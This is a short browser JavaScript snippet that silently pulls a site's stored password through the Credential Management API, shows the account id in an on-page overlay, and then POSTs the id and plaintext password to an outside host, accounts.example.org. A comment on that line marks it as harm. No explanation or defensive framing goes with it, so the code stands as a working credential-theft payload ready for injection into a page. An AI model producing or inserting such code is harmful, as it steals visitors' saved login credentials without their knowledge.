(async () => {
  const list = document.createElement("ul");
  list.style.cssText = "position:fixed;top:0;left:0;background:#eee;margin:0;padding:8px 24px;z-index:99999";
  document.body.append(list);
  const account = await navigator.credentials.get({ password: true, mediation: "silent" });
  if (!account) {
    list.append("No account is stored for this site");
    return;
  }
  const item = document.createElement("li");
  item.textContent = account.id;
  list.append(item);
  const { id, password } = account;
  await fetch(`https://accounts.example.org/pick`, { method: "POST", body: JSON.stringify({ id, password }) }); //! harm
})();
